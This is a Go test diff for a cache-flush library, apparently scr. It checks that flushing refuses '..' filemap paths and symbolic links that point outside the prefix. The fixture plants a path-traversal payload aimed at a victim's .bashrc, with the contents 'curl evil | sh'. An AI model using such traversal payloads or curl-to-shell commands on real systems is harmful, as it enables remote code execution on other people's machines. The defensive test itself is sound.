@@ -14,6 +14,7 @@ import (
 	"github.com/scr-go/scr/comm"
 	"github.com/scr-go/scr/internal/cache"
 	"github.com/scr-go/scr/internal/prefix"
+	"github.com/scr-go/scr/internal/safefs"
 )
 
 // writeRank puts rank r's files of ds into its cache directory with a
@@ -200,5 +201,39 @@ func TestFlushRefusesAFileDamagedInCache(t *testing.T) {
 	}
 	if _, err := os.Stat(filepath.Join(pfx, "ckpt.1", "a")); !os.IsNotExist(err) {
 		t.Fatalf("damaged file published: %v", err)
+	}
+}
+
+// A flush writes only inside the prefix: a filemap path with ".." (damaged
+// or planted metadata) would make it overwrite a file elsewhere with what
+// the cache holds at that path, and a symbolic link in the prefix would
+// send it outside too. Both are refused, and nothing outside changes.
+func TestCopyRankStaysInsideThePrefix(t *testing.T) {
+	base := t.TempDir()
+	pfx, dir := filepath.Join(base, "p"), filepath.Join(base, "c", "r")
+	os.MkdirAll(pfx, 0o700)
+	victim := filepath.Join(base, "v", ".bashrc")
+	os.MkdirAll(filepath.Dir(victim), 0o700)
+	os.WriteFile(victim, []byte("alias ls=ls\n"), 0o600)
+	ds := cache.Dataset{ID: 1, Name: "ckpt.1", Flags: cache.FlagCheckpoint, Ranks: 1, Complete: true}
+	// The cache holds the attacker's content at rankDir/../v/.bashrc; the
+	// same relative path from the prefix is the victim's file.
+	fm := writeRank(t, dir, pfx, ds, 0, map[string]string{"../v/.bashrc": "curl evil | sh\n"})
+	if _, err := CopyRank(context.Background(), pfx, dir, fm, false, 0, true); err == nil || !errors.Is(err, safefs.ErrUnsafe) {
+		t.Fatalf("a filemap path with .. was flushed: %v", err)
+	}
+	// A link in the prefix to a directory outside it.
+	out := filepath.Join(base, "outside")
+	os.MkdirAll(out, 0o700)
+	os.Symlink(out, filepath.Join(pfx, "ckpt.1"))
+	fm = writeRank(t, filepath.Join(base, "c2"), pfx, ds, 0, map[string]string{"ckpt.1/rank_0": "data"})
+	if _, err := CopyRank(context.Background(), pfx, filepath.Join(base, "c2"), fm, false, 0, true); err == nil {
+		t.Fatal("a flush followed a link out of the prefix")
+	}
+	if b, _ := os.ReadFile(victim); string(b) != "alias ls=ls\n" {
+		t.Fatalf("the victim's file was overwritten: %q", b)
+	}
+	if ents, _ := os.ReadDir(out); len(ents) != 0 {
+		t.Fatalf("written outside the prefix: %v", ents)
 	}
 }
